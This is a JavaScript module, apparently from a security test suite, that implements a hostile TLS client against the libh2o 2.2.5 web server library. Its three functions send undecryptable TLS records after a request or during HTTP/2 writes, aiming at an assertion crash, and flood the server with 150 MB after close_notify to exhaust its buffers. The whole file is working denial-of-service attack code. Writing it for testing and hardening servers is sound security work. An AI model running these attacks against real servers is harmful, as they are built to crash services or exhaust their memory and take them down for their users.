// SPDX-License-Identifier: Apache-2.0
// What a hostile TLS client does; targets are as in attacks_h2.mjs. The comments say
// what it aims at in libh2o 2.2.5.
import { randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { PREFACE, block, ping, request, settings, windowUpdate } from './h2.mjs';
import { TlsTap, badRecord } from './tls_tap.mjs';

const get = (what) => Buffer.from(`GET ${what.path} HTTP/1.1\r\nhost: localhost\r\n${
  (what.headers ?? []).map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`, 'latin1');

// [Finished][request][a record that cannot be decrypted] in one flight: the error is
// forgotten, the answer cannot be encrypted any more, and a write of no buffers at all
// is one that libuv asserts against. Nobody has shown a key so far.
export async function badRecordAfterRequest(target, tries = 5) {
  for (let i = 0; i < tries; i++) {
    const tap = new TlsTap(target.port, { minVersion: 'TLSv1.3', holdAfterHello: true });
    await Promise.race([tap.secured, tap.closed]);
    tap.socket.write(get(target.small));
    await new Promise(setImmediate);
    tap.flush(badRecord());
    await Promise.race([tap.closed, sleep(100)]);
    tap.destroy();
  }
}

// The same by HTTP/2, where reading goes on while a write is under way.
export async function badRecordWhileWriting(target) {
  const tap = new TlsTap(target.port, { alpn: 'h2' });
  await Promise.race([tap.secured, tap.closed]);
  tap.socket.write(Buffer.concat([PREFACE, settings({ INITIAL_WINDOW_SIZE: 0xffffff }), windowUpdate(0, 0x7f000000)]));
  tap.raw.pause();
  const count = Math.min(99, Math.ceil(15e6 / target.large.length));
  for (let i = 0; i < count; i++) tap.socket.write(request(2 * i + 1, block(target.large.path, target.large.headers)));
  await sleep(500);
  tap.socket.write(Buffer.concat(Array.from({ length: 10 }, () => ping())));
  await sleep(50);
  tap.raw.write(badRecord());
  await sleep(50);
  tap.raw.resume();
  await Promise.race([tap.closed, sleep(700)]);
  tap.destroy();
}

// After close_notify nothing is decrypted any more, but everything is kept.
export async function afterCloseNotify(target, { alpn = 'h2', megabytes = 150 } = {}) {
  const tap = new TlsTap(target.port, { alpn });
  await Promise.race([tap.secured, tap.closed]);
  if (alpn === 'h2') tap.socket.write(Buffer.concat([PREFACE, settings()]));
  await sleep(20);
  tap.socket.end();
  await sleep(20);
  const chunk = randomBytes(1 << 20);
  for (let sent = 0; sent < megabytes && !tap.isClosed; sent++)
    await Promise.race([new Promise((done) => { tap.raw.write(chunk, done); }), tap.closed, sleep(500)]);
  const cut = tap.isClosed === true;
  tap.destroy();
  return { cut };
}
